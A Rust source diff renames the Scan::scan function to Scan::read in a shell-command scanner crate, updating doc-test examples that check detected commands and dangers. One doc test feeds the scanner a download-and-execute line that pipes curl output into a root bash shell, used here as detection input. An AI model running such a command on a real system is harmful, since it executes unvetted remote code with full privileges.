@@ -22,10 +22,10 @@ use crate::{Excess, kind};
 /// ```
 /// use windlass_command::{Certainty, Danger, Scan};
 ///
-/// let scan = Scan::scan("curl -s example.test/x | sudo -u root bash; git -C sub --no-pager push");
+/// let scan = Scan::read("curl -s example.test/x | sudo -u root bash; git -C sub --no-pager push");
 /// assert!(scan.runs(&["git", "push"]) && scan.runs(&["curl"]));
 /// assert!(scan.dangers().contains(&Danger::FeedsShell));
-/// assert_eq!(Scan::scan("$tool -rf x").certainty(), Certainty::Partial);
+/// assert_eq!(Scan::read("$tool -rf x").certainty(), Certainty::Partial);
 /// ```
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct Scan {
@@ -181,13 +181,13 @@ impl Scan {
     ///
     /// Time and memory are at most linear in the bytes of the text. The scan of a text that would cost more
     /// ends when its budget is exhausted; see [`Scan::excess`].
-    pub fn scan(text: &str) -> Self {
+    pub fn read(text: &str) -> Self {
         let mut search = Search::new(text.len());
         search.text(text);
         search.finish(text)
     }
 
-    /// Scans a program that is started without a shell, with the same limits as [`Scan::scan`].
+    /// Scans a program that is started without a shell, with the same limits as [`Scan::read`].
     pub fn scan_argv(argv: &[String]) -> Self {
         let mut search = Search::new(argv.iter().map(|word| word.len().saturating_add(1)).sum());
         search.argv(argv);
@@ -209,9 +209,9 @@ impl Scan {
     ///
     /// ```
     /// use windlass_command::Scan;
-    /// let scan = Scan::scan("frobnicate rm x");
+    /// let scan = Scan::read("frobnicate rm x");
     /// assert!(!scan.runs(&["rm"]) && scan.may_run(&["rm"]));
-    /// assert!(!Scan::scan("grep rm x").may_run(&["rm"]));
+    /// assert!(!Scan::read("grep rm x").may_run(&["rm"]));
     /// ```
     pub fn may_run(&self, rule: &[&str]) -> bool {
         self.runs(rule) || self.loose.iter().any(|found| found.may_run(rule))
